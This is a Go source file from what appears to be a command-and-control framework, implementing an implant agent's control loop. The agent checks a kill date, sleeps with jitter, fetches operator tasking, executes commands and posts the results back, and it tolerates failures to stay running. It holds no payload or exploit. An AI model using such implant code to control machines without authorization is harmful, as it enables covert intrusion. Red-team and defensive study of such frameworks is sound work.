// SPDX-FileCopyrightText: 2026 The krait-go Authors
//
// SPDX-License-Identifier: GPL-3.0-or-later

package task

import (
	"context"
	"errors"
	"time"

	log "github.com/sirupsen/logrus"

	"github.com/hashicorp/go-multierror"

	"github.com/krait-c2/krait-go/pkg/channel"
	"github.com/krait-c2/krait-go/pkg/wire"
)

// ErrKillDate is returned by Run once the kill date has passed.
var ErrKillDate = errors.New("task: kill date reached")

// EngineConfig carries the Engine's immutable settings.
type EngineConfig struct {
	// KillDate is the absolute point in time after which the agent refuses
	// to operate. The zero value disables the check.
	KillDate time.Time

	// Clock defaults to time.Now and is replaceable for tests.
	Clock func() time.Time
}

// Engine is the agent's perpetual control loop: check the kill date, sleep a
// jittered interval, fetch tasking, execute it, post the results, repeat. No
// failure inside one iteration terminates the loop; a single bad exchange
// must never take a long-lived agent down.
type Engine struct {
	config   EngineConfig
	channel  *channel.Channel
	sleeper  *channel.Sleeper
	handlers *HandlerMux
	jobs     *List
}

// NewEngine creates an Engine on an established Channel.
func NewEngine(config EngineConfig, ch *channel.Channel, sleeper *channel.Sleeper, handlers *HandlerMux) *Engine {
	if config.Clock == nil {
		config.Clock = time.Now
	}

	return &Engine{
		config:   config,
		channel:  ch,
		sleeper:  sleeper,
		handlers: handlers,
		jobs:     NewList(),
	}
}

// Jobs exposes the registry of tasking in flight.
func (engine *Engine) Jobs() *List {
	return engine.jobs
}

// killDateReached checks the dead-man's switch.
func (engine *Engine) killDateReached() bool {
	return !engine.config.KillDate.IsZero() &&
		!engine.config.Clock().Before(engine.config.KillDate)
}

// Run drives the control loop until the kill date passes or the context is
// cancelled. The kill date is checked before any network activity and also
// bounds the loop context, so the indefinite retry inside an exchange ends
// with it instead of generating traffic past the dead-man's switch.
func (engine *Engine) Run(ctx context.Context) error {
	if engine.killDateReached() {
		log.Info("Kill date reached, refusing to operate")
		return ErrKillDate
	}

	if !engine.config.KillDate.IsZero() {
		var cancel context.CancelFunc
		ctx, cancel = context.WithDeadline(ctx, engine.config.KillDate)
		defer cancel()
	}

	engine.checkin(ctx)

	for {
		if engine.killDateReached() {
			log.Info("Kill date reached, stopping")
			return ErrKillDate
		}

		if !engine.sleeper.Sleep(ctx) {
			return engine.stopCause(ctx)
		}

		engine.fetchTasking(ctx)
		engine.executeJobs(ctx)
		engine.postResults(ctx)

		if err := ctx.Err(); err != nil {
			return engine.stopCause(ctx)
		}
	}
}

// stopCause maps the loop context's termination to the engine's error: a
// deadline which is the kill date reports ErrKillDate, everything else is
// the caller's cancellation.
func (engine *Engine) stopCause(ctx context.Context) error {
	if errors.Is(ctx.Err(), context.DeadlineExceeded) && engine.killDateReached() {
		return ErrKillDate
	}

	return ctx.Err()
}

// checkin announces the agent once after startup. A failure is absorbed, the
// next tasking fetch transports the same information.
func (engine *Engine) checkin(ctx context.Context) {
	if _, err := engine.channel.Exchange(ctx, wire.Message{Action: wire.ActionCheckin}); err != nil {
		log.WithError(err).Debug("Checkin failed")
	}
}

// fetchTasking asks for new tasking and enqueues it in arrival order. Decode
// failures mean no tasking this cycle.
func (engine *Engine) fetchTasking(ctx context.Context) {
	reply, err := engine.channel.Exchange(ctx, wire.Message{Action: wire.ActionGetTasking})
	if err != nil {
		log.WithError(err).Debug("No tasking this cycle")
		return
	}

	for _, t := range reply.Tasks {
		if t.ID == "" {
			log.Warn("Dropping task without an ID")
			continue
		}

		if engine.jobs.Enqueue(t) {
			log.WithFields(log.Fields{
				"job":     t.ID,
				"command": t.Command,
			}).Info("Job enqueued")
		} else {
			log.WithField("job", t.ID).Warn("Duplicate job ID, dropping")
		}
	}
}

// executeJobs runs every Queued Job sequentially through the HandlerMux.
func (engine *Engine) executeJobs(ctx context.Context) {
	for _, job := range engine.jobs.Queued() {
		engine.jobs.Transition(job.ID, Running, "")

		output, err := engine.handlers.Dispatch(ctx, job.Command, job.Parameters)
		if err != nil {
			engine.jobs.Transition(job.ID, Failed, err.Error())
			log.WithError(err).WithField("job", job.ID).Warn("Job failed")
			continue
		}

		engine.jobs.Transition(job.ID, Completed, output)
		log.WithField("job", job.ID).Info("Job completed")
	}
}

// postResults reports every finished Job and removes it from the List on
// success. Failed deliveries stay enqueued for the next cycle; the errors of
// one cycle are aggregated and absorbed at the loop boundary.
func (engine *Engine) postResults(ctx context.Context) {
	var postErr *multierror.Error

	for _, job := range engine.jobs.Finished() {
		msg := wire.Message{
			Action: wire.ActionPostResponse,
			Responses: []wire.Response{{
				ID:     job.ID,
				Status: job.Status.String(),
				Output: job.Output,
			}},
		}

		if _, err := engine.channel.Exchange(ctx, msg); err != nil {
			postErr = multierror.Append(postErr, err)
			continue
		}

		engine.jobs.Remove(job.ID)
	}

	if err := postErr.ErrorOrNil(); err != nil {
		log.WithError(err).Debug("Posting results partially failed")
	}
}
